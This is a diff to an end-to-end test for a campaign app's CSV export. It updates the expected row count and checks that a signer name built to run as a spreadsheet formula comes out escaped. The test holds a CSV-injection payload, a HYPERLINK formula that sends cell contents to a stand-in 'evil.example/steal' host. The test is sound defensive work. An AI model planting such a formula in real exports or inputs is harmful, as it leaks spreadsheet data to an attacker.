@@ -57,8 +57,8 @@ test("a name that a spreadsheet would run as a formula is refused at signing, an
   await page.getByRole("link", { name: world.campaignTitle }).click();
   const campaignId = /campaigns\/([0-9a-f-]{36})/.exec(page.url())![1];
   const csv = await (await page.request.get(`/api/org/${world.orgSlug}/campaigns/${campaignId}/export?status=all`)).text();
-  // Her row is the campaign's only one.
-  expect(csv.trim().split("\r\n")).toHaveLength(2);
+  // Her row is the campaign's only one (after the export's id line and the column names).
+  expect(csv.trim().split("\r\n")).toHaveLength(3);
   const line = csv.split("\r\n").find((l) => l.includes(email))!;
   expect(line).toContain(`"'=HYPERLINK(""https://evil.example/steal?""&A1,""Click"")"`);
   expect(line).not.toMatch(/,=HYPERLINK|,"=HYPERLINK/);
